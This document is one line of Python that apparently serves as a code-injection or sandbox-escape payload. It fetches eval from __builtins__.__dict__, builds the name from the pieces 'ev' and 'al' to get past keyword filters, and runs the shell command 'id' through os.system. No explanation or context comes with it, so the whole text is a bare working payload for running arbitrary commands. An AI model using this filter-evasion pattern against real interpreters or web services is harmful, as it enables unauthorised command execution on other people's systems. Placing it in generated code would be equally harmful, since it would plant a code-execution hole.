__builtins__.__dict__["ev" + "al"]("__import__('os').system('id')")
